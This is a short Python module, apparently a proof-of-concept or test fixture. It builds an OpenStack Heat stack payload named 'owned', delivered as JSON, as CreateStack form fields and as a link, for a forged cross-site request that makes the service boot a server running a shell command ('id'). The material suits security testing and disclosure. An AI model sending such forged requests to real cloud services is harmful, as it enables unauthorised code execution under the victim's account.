"""The stack that a foreign page would have the service make: a shell of the user who runs it.

As JSON, as fields of a form, and as a link."""

import json
from urllib.parse import quote, urlencode

TEMPLATE = {
    "heat_template_version": "2021-04-16",
    "resources": {
        "shell": {
            "type": "OS::Nova::Server",
            "properties": {"image": "local", "flavor": "m1.tiny", "user_data": "#!/bin/sh\nid"},
        }
    },
}
STACK = json.dumps({"stack_name": "owned", "template": TEMPLATE})
FIELDS = {"Action": "CreateStack", "StackName": "owned", "TemplateBody": json.dumps(TEMPLATE)}
LINK = f"/v1/?{urlencode(FIELDS, quote_via=quote)}"
